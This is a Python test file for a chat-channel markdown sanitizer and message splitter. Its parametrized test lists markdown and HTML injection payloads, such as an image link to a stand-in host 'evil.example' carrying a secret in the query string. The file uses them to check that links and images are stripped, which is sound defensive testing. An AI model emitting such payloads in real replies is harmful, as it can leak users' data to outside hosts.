from __future__ import annotations

import pytest

from api.channels.markdown import harmless, literal, split_markdown
from api.dingtalk.markdown import spaced


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "[![a](https://evil.example/a)](https://evil.example)",
        "[a][b]\n\n[b]: https://evil.example",
        "<img src=https://evil.example/a>",
        "<https://evil.example>",
        "<a href='https://evil.example'>a</a>",
        "```\n![x](https://evil.example)\n```",
        "`a` ![x](https://evil.example) `b`",
    ],
)
def test_links_images_and_html_of_a_document_do_not_survive(attack: str) -> None:
    shown = harmless(attack)
    assert "](" not in shown
    assert "![" not in shown
    assert "<" not in shown.replace(" < ", "")
    assert "]:" not in shown


def test_an_address_is_shown_and_cannot_be_clicked() -> None:
    assert harmless("请访问 https://hr.corp.example/leave，谢谢") == "请访问 `https://hr.corp.example/leave`，谢谢"
    assert harmless("see `https://a.example` and www.b.example") == "see `https://a.example` and `www.b.example`"


def test_ordinary_markdown_and_citation_marks_stay() -> None:
    text = "## 年假\n\n**10 天**[1]，见 [2] 和 [3](附件)\n\n| a | b |\n|---|---|\n| 1 < 2 | `x` |"
    assert harmless(text) == text.replace("[3](", "[3] (")


def test_a_title_cannot_format_anything() -> None:
    assert literal("**粗**\n[link](http://x) `code` # |") == "＊＊粗＊＊ ［link］(`http://x`) ＇code＇ ＃ ｜"


def test_lists_and_tables_get_their_blank_line_and_lines_their_break() -> None:
    assert spaced("共两项：\n- a\n- b\n\n第一行\n第二行") == "共两项：\n\n- a\n- b\n\n第一行  \n第二行"
    assert spaced("表：\n| a |\n|---|") == "表：\n\n| a |\n|---|"
    assert spaced("```\na\nb\n```\nc") == "```\na\nb\n```\nc"


@pytest.mark.parametrize("limit", [40, 100, 333, 3500])
def test_parts_keep_to_the_limit_and_lose_no_words(limit: int) -> None:
    paragraphs = [f"第 {number} 段：" + "很长的一句话，没有尽头。" * (number % 7) for number in range(60)]
    text = "\n\n".join([*paragraphs, "x" * 5000, "a\nb\n" * 300])
    parts = split_markdown(text, limit)
    assert max(map(len, parts)) <= limit
    assert "".join("".join(parts).split()) == "".join(text.split())


def test_a_cut_is_made_between_paragraphs_where_it_can_be() -> None:
    assert split_markdown("aaaa\n\nbbbb\n\ncccc", 10) == ["aaaa\n\nbbbb", "cccc"]


def test_code_that_is_cut_is_fenced_in_every_part() -> None:
    code = "```python\n" + "\n\n".join(f"line_{number} = {number}" for number in range(40)) + "\n```"
    parts = split_markdown(f"前言\n\n{code}\n\n结尾", 120)
    assert len(parts) > 3
    assert max(map(len, parts)) <= 120
    assert all(part.count("```") % 2 == 0 for part in parts)
    assert all("```python" in part for part in parts if "line_" in part)


def test_an_empty_text_has_no_parts() -> None:
    assert split_markdown("  \n\n ", 100) == []
